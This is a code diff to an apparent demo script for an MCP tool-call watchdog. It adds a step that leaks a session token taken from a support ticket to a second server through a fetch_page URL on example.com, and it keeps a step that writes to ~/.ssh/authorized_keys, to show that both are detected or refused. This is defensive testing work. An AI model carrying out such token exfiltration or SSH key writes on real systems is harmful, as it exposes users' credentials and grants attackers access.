@@ -75,6 +75,11 @@ const steps: Step[] = [
   },
   {
     title:
+      "A support ticket with a session token (clean: remembered, as a fingerprint, for Layer 3)",
+    ...call("get_ticket"),
+  },
+  {
+    title:
       "Write to a sensitive location (~/.ssh/authorized_keys), refused before the server sees it",
     ...call("write_file", {
       path: `${home}/.ssh/authorized_keys`,
@@ -83,12 +88,17 @@ const steps: Step[] = [
   },
 ];
 
-async function converse(command: string[]): Promise<Msg[]> {
+async function converse(
+  command: string[],
+  script: readonly Step[] = steps,
+): Promise<Msg[]> {
   const p = new Deno.Command(command[0], {
     args: command.slice(1),
     stdin: "piped",
     stdout: "piped",
     stderr: "null",
+    // Both wrappers of the flow step belong to one client session, as under one real client.
+    env: { MCP_WATCHDOG_SESSION: "demo-client" },
   }).spawn();
   const w = p.stdin.getWriter();
   const enc = new TextEncoder();
@@ -120,7 +130,7 @@ async function converse(command: string[]): Promise<Msg[]> {
   });
   await w.write(enc.encode('{"jsonrpc":"2.0","method":"notifications/initialized"}\n'));
   const out: Msg[] = [];
-  for (const s of steps) out.push(await send(s.method, s.params ?? {}));
+  for (const s of script) out.push(await send(s.method, s.params ?? {}));
   await w.close();
   await lines.cancel();
   await p.status;
@@ -174,10 +184,46 @@ steps.forEach((s, i) => {
   if (!changed && !alerts.length) console.log(`   ${c("2", "(nothing to do: clean)")}`);
   console.log();
 });
+// Layer 3: a second wrapper (another server, "notes") in the same client session receives the
+// token that the first server returned. Both share the state directory, as wrappers on one machine do.
+const flowAudit = `${work}/audit-notes.jsonl`;
+const ticketAt = steps.findIndex((s) =>
+  (s.params as { name?: string } | undefined)?.name === "get_ticket"
+);
+const token = /tk_[A-Za-z0-9]+/.exec(text(proxied[ticketAt]))?.[0] ?? "";
+const flowStep: Step = {
+  title: `Cross-server flow: the token from server "demo" sent to server "notes"`,
+  ...call("fetch_page", { url: `https://example.com/support?session=${token}` }),
+};
+await converse([
+  deno,
+  "run",
+  "-A",
+  `${root}cli.ts`,
+  "--quiet",
+  "--name",
+  "notes",
+  "--audit-log",
+  flowAudit,
+  "--state-dir",
+  `${work}/state`,
+  "--",
+  ...server,
+], [flowStep]);
+const flowRecords = (await Deno.readTextFile(flowAudit).catch(() => "")).split("\n")
+  .filter(Boolean).map((l) => JSON.parse(l)).filter((r) => r.layer === "L3-flow");
+console.log(c("1", `${steps.length + 1}. ${flowStep.title}`));
+console.log(`   request to "notes": fetch_page ${clip(JSON.stringify(flowStep.params))}`);
+for (const r of flowRecords) {
+  console.log(`   ${c("33", `[${r.severity}]`)} ${r.rule} ${r.action} at ${r.path}: ${r.message}`);
+}
+if (flowRecords.length) caught++;
+else console.log(`   ${c("2", "(not caught)")}`);
+console.log();
 console.log(
   c(
     "1",
-    `${caught} of ${steps.length} steps caught; ${
+    `${caught} of ${steps.length + 1} steps caught; ${
       records.filter((r) => r.rule).length
     } findings in the audit log (${audit})`,
   ),
